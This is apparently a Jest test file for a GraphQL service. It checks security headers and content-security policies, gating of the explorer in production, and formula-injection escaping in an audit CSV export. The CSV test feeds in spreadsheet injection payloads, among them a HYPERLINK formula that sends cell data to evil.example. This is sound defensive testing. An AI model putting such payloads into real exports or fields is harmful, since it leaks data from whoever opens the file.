// Security headers on every route (issue 11, item 5), the explorer kept out
// of production, and an audit CSV export that no spreadsheet runs as formulas.
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { createHash } from 'node:crypto';
import { prisma } from '../../src/db/prisma.ts';
import { allSubgraphs } from '../../src/gateway/subgraphs.ts';
import { startHubServer } from '../../src/server/app.ts';
import { explorerEnabledFrom } from '../../src/config.ts';
import { buildFamilies, gid, type BuiltFamily } from '../support/fixtures.ts';
import type { Caller } from '../support/test-auth.ts';
import { startTestHub, type TestHub } from '../support/test-hub.ts';

const origin = (hub: { server: { url: string } }) => hub.server.url.replace(/\/graphql$/, '');

function directives(header: string | null): Map<string, string> {
  return new Map((header ?? '').split(';').map((d) => d.trim()).filter(Boolean).map((d) => {
    const [name, ...values] = d.split(/\s+/);
    return [name!, values.join(' ')];
  }));
}

describe('security headers', () => {
  let hub: TestHub;
  beforeAll(async () => {
    hub = await startTestHub();
  });
  afterAll(() => hub.stop());

  const common = (response: Response) => {
    expect(response.headers.get('x-content-type-options')).toBe('nosniff');
    expect(response.headers.get('referrer-policy')).toBe('no-referrer');
    expect(response.headers.get('x-frame-options')).toBe('DENY');
    expect(response.headers.get('x-powered-by')).toBeNull();
    const csp = directives(response.headers.get('content-security-policy'));
    expect(csp.get('frame-ancestors')).toBe("'none'");
    expect(csp.get('object-src') ?? csp.get('default-src')).toBe("'none'");
    expect(csp.get('base-uri')).toBe("'none'");
    return csp;
  };

  it('answers /graphql with the strictest policy: nothing may load, nothing may frame it', async () => {
    const answered = await hub.post({ query: '{ districts { code } }' }, await hub.auth.headers({ unit: 'SOCIAL', sub: 'w-1' }));
    expect(answered.status).toBe(200);
    expect(common(answered).get('default-src')).toBe("'none'");
    const refused = await hub.post({ query: '{ districts { code } }' }, {});
    expect(refused.status).toBe(401);
    expect(common(refused).get('default-src')).toBe("'none'");
  });

  it('sets them on the health and readiness checks', async () => {
    expect(common(await fetch(`${origin(hub)}/health`)).get('default-src')).toBe("'none'");
    expect(common(await fetch(`${origin(hub)}/ready`)).get('default-src')).toBe("'none'");
  });

  it("keeps them on unknown paths, where Express's own 404 narrows the policy to default-src 'none'", async () => {
    const response = await fetch(`${origin(hub)}/nothing-here`);
    expect(response.status).toBe(404);
    expect(response.headers.get('content-security-policy')).toBe("default-src 'none'");
    expect(response.headers.get('x-frame-options')).toBe('DENY');
    expect(response.headers.get('x-content-type-options')).toBe('nosniff');
    expect(response.headers.get('referrer-policy')).toBe('no-referrer');
  });

  it('lets the explorer page load its local scripts and styles, and only its own two inline blocks, by hash', async () => {
    const response = await fetch(`${origin(hub)}/`);
    expect(response.status).toBe(200);
    const csp = common(response);
    expect(csp.get('default-src')).toBe("'none'");
    expect(csp.get('connect-src')).toBe("'self'");
    const html = await response.text();
    const hash = (text: string) => `'sha256-${createHash('sha256').update(text).digest('base64')}'`;
    const scripts = [...html.matchAll(/<script>([\s\S]*?)<\/script>/g)].map((m) => hash(m[1]!));
    const styles = [...html.matchAll(/<style>([\s\S]*?)<\/style>/g)].map((m) => hash(m[1]!));
    expect(csp.get('script-src')).toBe(["'self'", ...scripts].join(' '));
    expect(csp.get('style-src')).toBe(["'self'", ...styles].join(' '));
    expect(csp.get('script-src')).not.toMatch(/unsafe/);
    expect(html).not.toMatch(/\sstyle=|\son\w+=/);
    for (const [, src] of html.matchAll(/(?:src|href)="([^"]+)"/g)) expect(src).toMatch(/^\/explorer\//);
  });

  it('keeps the dashboard on its own policy', async () => {
    const response = await fetch(`${origin(hub)}/dashboard`);
    expect(response.status).toBe(200);
    const csp = common(response);
    expect(csp.get('script-src')).toBe("'self'");
    expect(csp.get('require-trusted-types-for')).toBe("'script'");
  });
});

describe('the explorer in production', () => {
  let hub: TestHub;
  beforeAll(async () => {
    hub = await startTestHub();
  });
  afterAll(() => hub.stop());

  const withEnv = async <T>(env: Record<string, string | undefined>, run: () => Promise<T>): Promise<T> => {
    const saved = Object.fromEntries(Object.keys(env).map((k) => [k, process.env[k]]));
    const set = (values: Record<string, string | undefined>) => {
      for (const [k, v] of Object.entries(values)) {
        if (v === undefined) delete process.env[k];
        else process.env[k] = v;
      }
    };
    set(env);
    try {
      return await run();
    } finally {
      set(saved);
    }
  };

  const routes = async (env: Record<string, string | undefined>) =>
    withEnv(env, async () => {
      const server = await startHubServer({ subgraphs: allSubgraphs(), auth: hub.auth.settings, port: 0, log: () => undefined, persistedOperationsOnly: false });
      try {
        const base = server.url.replace(/\/graphql$/, '');
        const status = async (route: string) => (await fetch(`${base}${route}`)).status;
        return { explorer: await status('/'), asset: await status('/explorer/graphiql.js'), dashboard: await status('/dashboard') };
      } finally {
        await server.stop();
        server.httpServer.close();
      }
    });

  it('is not served in production unless HUB_EXPLORER=1; the dashboard stays', async () => {
    expect(await routes({ NODE_ENV: 'production', HUB_EXPLORER: undefined })).toEqual({ explorer: 404, asset: 404, dashboard: 200 });
    expect(await routes({ NODE_ENV: 'production', HUB_EXPLORER: '1' })).toEqual({ explorer: 200, asset: 200, dashboard: 200 });
    expect(await routes({ NODE_ENV: 'development', HUB_EXPLORER: undefined })).toEqual({ explorer: 200, asset: 200, dashboard: 200 });
  });

  it('reads HUB_EXPLORER strictly', () => {
    expect(explorerEnabledFrom({ NODE_ENV: 'production' })).toBe(false);
    expect(explorerEnabledFrom({ NODE_ENV: 'production', HUB_EXPLORER: 'true' })).toBe(true);
    expect(explorerEnabledFrom({ NODE_ENV: 'development', HUB_EXPLORER: '0' })).toBe(false);
    expect(explorerEnabledFrom({})).toBe(true);
    expect(() => explorerEnabledFrom({ NODE_ENV: 'production', HUB_EXPLORER: 'yes' })).toThrow(/HUB_EXPLORER must be 1 or 0/);
  });
});

describe('audit CSV export', () => {
  let hub: TestHub;
  let family: BuiltFamily;
  const AUDITOR: Caller = { unit: 'SOCIAL', sub: 'w-auditor', roles: ['AUDITOR'], purpose: 'AUDIT' };

  beforeAll(async () => {
    hub = await startTestHub();
    family = (await buildFamilies(1, { members: 1, openCases: 1, contactsPerCase: 0, referrals: 0 }))[0]!;
    await prisma().person.update({ where: { id: family.personIds[0]! }, data: { nationalId: 'A123456789' } });
  });
  afterAll(() => hub.stop());

  it('neutralises cells a spreadsheet would run as formulas, and keeps quoting correct', async () => {
    const id = gid('Person', family.personIds[0]!);
    // The subject comes from the identity provider: whatever it holds lands in the export.
    const subjects = ['=HYPERLINK("http://evil.example/?"&A1,"open")', '+SUM(1,2)', '-2+3', '@cmd', '\tindented', 'plain, with comma', 'line\r\nbreak'];
    for (const sub of subjects) {
      const read = await hub.query('query Look($id: ID!) { person(id: $id) { name } }', { id }, { unit: 'SOCIAL', sub });
      expect(read.errors).toBeUndefined();
    }
    const response = await hub.query('query ($id: ID!) { auditTrailCsv(personId: $id) }', { id }, AUDITOR);
    const csv = response.data!.auditTrailCsv as string;
    expect(csv).toContain(`,"'=HYPERLINK(""http://evil.example/?""&A1,""open"")",SOCIAL,`);
    expect(csv).toContain(`,"'+SUM(1,2)",SOCIAL,`);
    expect(csv).toContain(`,'-2+3,SOCIAL,`);
    expect(csv).toContain(`,'@cmd,SOCIAL,`);
    expect(csv).toContain(`,'\tindented,SOCIAL,`);
    expect(csv).toContain(`,"plain, with comma",SOCIAL,`);
    expect(csv).toContain(`,"line\r\nbreak",SOCIAL,`);
    // No cell of any row begins with a formula character.
    expect(csv).not.toMatch(/(^|,)[=+\-@\t\r]/m);
  });
});
